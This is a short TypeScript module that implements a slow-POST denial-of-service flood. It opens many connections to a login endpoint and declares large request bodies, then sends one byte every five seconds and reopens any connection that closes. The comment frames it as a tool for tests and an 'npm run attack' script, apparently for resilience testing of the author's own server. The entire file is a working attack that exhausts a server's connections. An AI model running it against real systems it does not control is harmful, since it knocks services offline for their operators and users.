// Sends a flood of calls with very slow bodies, as a single laptop can, for tests and `npm run attack`.
import type { Socket } from 'node:net'

export type Flood = {
  /** How many connections are open now. */
  open(): number
  end(): void
}

const head = (host: string) =>
  `POST /api/users/login HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{`
/** How long (ms) between two bytes of a body. */
const pause = 5000
/** How long (ms) until a closed connection is opened again. */
const reopenAfter = 5000

/**
 * Opens `count` connections. Each connection sends its headers, then single bytes. A closed connection is opened again.
 */
export function slowPosts(count: number, host: string, open: (i: number) => Socket): Flood {
  const sockets = new Set<Socket>()
  let ended = false
  const start = (i: number) => {
    if (ended) return
    const socket = open(i)
    sockets.add(socket)
    socket.on('error', () => {}).resume()
    socket.write(head(host))
    const drip = setInterval(() => socket.write(' '), pause)
    socket.once('close', () => {
      clearInterval(drip)
      sockets.delete(socket)
      setTimeout(start, reopenAfter, i).unref()
    })
  }
  for (let i = 0; i < count; i++) start(i)
  return {
    open: () => sockets.size,
    end() {
      ended = true
      for (const socket of sockets) socket.destroy()
    },
  }
}
